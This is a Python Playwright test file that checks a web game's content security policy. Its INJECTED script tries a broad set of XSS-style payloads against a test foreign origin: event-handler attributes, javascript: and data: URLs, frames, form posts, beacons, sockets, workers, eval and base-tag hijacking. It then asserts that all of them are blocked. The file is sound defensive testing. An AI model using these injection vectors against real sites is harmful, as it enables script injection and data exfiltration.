"""The page's content security policy: what somebody managed to slip into the page does nothing."""

import base64
import hashlib
import re
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from e2e.conftest import PageAt
from e2e.screen import TIMEOUT_MS, survey, wait_phase, wait_ready
from e2e.site import BUILT, ROOT
from e2e.taps import Taps
from tools import build_site, licences
from tools.hosting import background_server
from tools.runtime import no_eval

CHECKSUM = re.findall(r"'(sha256-\S+)'", (ROOT / "index.html").read_text("utf-8"))[0]
"""Of the one inline script, in the frames of plugin bots: `tests/unit/test_plugins.py` looks at it."""

POLICY = {
    "default-src": "'none'",
    "script-src": (
        build_site.with_shell(no_eval.POLICY, (ROOT / build_site.INLINE).read_text("utf-8")).partition(" ")[2]
        if BUILT
        else "'self' 'unsafe-eval'"
    )
    + f" '{CHECKSUM}'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "worker-src": "'self' blob:",
    "manifest-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
}
"""All of it. From a checkout PyScript is used as its authors built it, and makes functions from text."""

INJECTED = """async foreign => {
    const reports = [], done = {}, root = document.documentElement;
    addEventListener("securitypolicyviolation", event => {
        reports.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
    const add = html => document.body.insertAdjacentHTML("beforeend", html);
    const element = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
    window.ran = [];
    const own = document.body.children.length;
    element("script", {textContent: "ran.push('inline script')"});
    element("script", {src: `${foreign}/script.js`});
    element("script", {src: "data:text/javascript,ran.push('data script')"});
    element("script", {src: URL.createObjectURL(new Blob(["ran.push('blob script')"]))});
    element("script", {type: "module", textContent: "ran.push('inline module')"});
    add(`<img src="./no-such-file" onerror="ran.push('handler of an image')">`);
    add(`<details open ontoggle="ran.push('handler of details')"></details>`);
    add(`<svg onload="ran.push('handler of a drawing')"></svg>`);
    add(`<a id="injected-link" href="javascript:ran.push('link')">x</a>`);
    document.getElementById("injected-link").click();
    add(`<iframe src="javascript:parent.ran.push('frame')"></iframe>`);
    add(`<iframe srcdoc="<script>parent.ran.push('document of a frame')</script>"></iframe>`);
    add(`<iframe src="${foreign}/frame"></iframe>`);
    add(`<object data="${foreign}/object"></object><embed src="${foreign}/embed">`);
    add(`<img src="${foreign}/image.png"><audio src="${foreign}/audio.mp3"></audio>`);
    add(`<video src="${foreign}/video.mp4"></video>`);
    add(`<style>body { --injected: yes }</style><p id="injected-style" style="--injected-here: yes">x</p>`);
    add(`<link rel="stylesheet" href="${foreign}/style.css"><base href="${foreign}/">`);
    add(`<form id="injected-form" action="${foreign}/form" method="post"><input name="a" value="b"></form>`);
    document.getElementById("injected-form").submit();
    const outcome = async promise => { try { await promise; return "went through"; } catch { return "blocked"; } };
    done.fetch = await outcome(fetch(`${foreign}/fetch`, {mode: "no-cors"}));
    done.beacon = navigator.sendBeacon(`${foreign}/beacon`) && "queued";
    done.socket = await outcome(new Promise((open, closed) => {
        const socket = new WebSocket(foreign.replace("http", "ws"));
        socket.onopen = open;
        socket.onerror = closed;
    }));
    done.events = await outcome(new Promise((open, closed) => {
        const source = new EventSource(`${foreign}/events`);
        source.onopen = open;
        source.onerror = () => { source.close(); closed(); };
    }));
    done.module = await outcome(import(`${foreign}/module.js`));
    const worker = url => outcome(new Promise((open, closed) => {
        const made = new Worker(url);
        made.onmessage = open;
        made.onerror = closed;
    }));
    // Such workers may be made, which takes a script that runs; they have the page's policy.
    const failing = "() => setTimeout(() => { throw 1; })";
    const asking = `fetch("${foreign}/worker", {mode: "no-cors"}).then(() => postMessage(1), ${failing})`;
    done["worker from a blob"] = await worker(URL.createObjectURL(new Blob([asking])));
    done["worker from text"] = await worker("data:text/javascript,postMessage(1)");
    const evaluated = make => { try { make(); return "went through"; } catch { return "blocked"; } };
    done.eval = evaluated(() => (0, eval)("1"));
    done.function = evaluated(() => Function("return 1")());
    setTimeout("ran.push('text of a timer')", 0);
    await new Promise(soon => setTimeout(soon, 0));
    await new Promise(painted => requestAnimationFrame(() => requestAnimationFrame(painted)));
    const found = {
        ran: window.ran, reports, done, address: location.href, base: document.baseURI,
        style: getComputedStyle(document.body).getPropertyValue("--injected"),
        attribute: getComputedStyle(document.getElementById("injected-style")).getPropertyValue("--injected-here"),
    };
    while (document.body.children.length > own) document.body.lastElementChild.remove();
    return found;
}"""
"""Tries everything from inside the page, as whoever could add to its markup or scripts would."""

DIRECTIVES = {
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "style-src-attr",
    "img-src",
    "media-src",
    "object-src",
    "frame-src",
    "connect-src",
    "worker-src",
    "base-uri",
    "form-action",
}
"""What has to have stopped something."""


def directives(text: str) -> dict[str, str]:
    """Return a policy's parts."""
    return {name: value for name, _, value in (part.strip().partition(" ") for part in text.split(";"))}


def unguarded(page: Page) -> None:
    """Leave it to the policy alone to keep the page from other origins."""
    page.context.unroute_all()


def test_nothing_that_is_injected_runs_is_fetched_or_sent(page_at: PageAt, elsewhere: tuple[str, list[str]]) -> None:
    url, asked = elsewhere
    page = page_at(1180, 820, expect_errors=True, prepare=unguarded)
    assert directives(page.get_attribute("meta[http-equiv]", "content") or "") == POLICY
    address = page.url
    found: dict[str, Any] = page.evaluate(INJECTED, url)
    assert found["ran"] == []
    assert asked == []
    expected = dict.fromkeys(found["done"], "blocked")
    if not BUILT:
        expected |= dict.fromkeys(("eval", "function"), "went through")
    # A beacon says that it is queued whatever becomes of it.
    assert {**found["done"], "beacon": "blocked"} == expected
    assert (found["address"], found["base"]) == (address, address)
    assert (found["style"], found["attribute"]) == ("", "")
    assert {report.split()[0] for report in found["reports"]} >= DIRECTIVES
    assert f"connect-src {url}/beacon" in found["reports"]

    # And the game goes on as if nothing had been. (Playwright's own clicks wait for the navigations that were stopped.)
    taps = Taps(page)
    taps.middle(survey(page).at("start"))
    wait_phase(page, "curtain")
    taps.middle(survey(page).at("reveal"))
    wait_phase(page, "turn")
    assert asked == []


@pytest.mark.long
def test_the_page_of_licences_shows_itself_under_its_own_policy(dist: Path, browser: Browser) -> None:
    with background_server(dist, parts=None) as url:
        page = browser.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        told: list[str] = []
        page.on("console", lambda message: told.append(message.text))
        page.goto(url)
        wait_ready(page)
        Taps(page).button("about")
        page.click("#licences a")
        page.wait_for_url("**/licences.html")
        assert page.inner_text("h1") == "Licences"
        style = base64.b64encode(hashlib.sha256(licences.STYLE.encode()).digest()).decode()
        policy = directives(page.get_attribute("meta[http-equiv]", "content") or "")
        assert policy["style-src"] == f"'sha256-{style}'"
        assert "script-src" not in policy
        assert page.evaluate("() => getComputedStyle(document.querySelector('pre')).whiteSpace") == "pre-wrap"
        assert page.locator("details").count() > 10
        page.locator("summary", has_text="micropip").first.click()
        assert "Mozilla Public License" in re.sub(r"\s+", " ", page.inner_text("details[open]"))
        assert [text for text in told if "Content Security Policy" in text] == []
        page.click("main a >> nth=0")
        wait_ready(page)
        page.close()
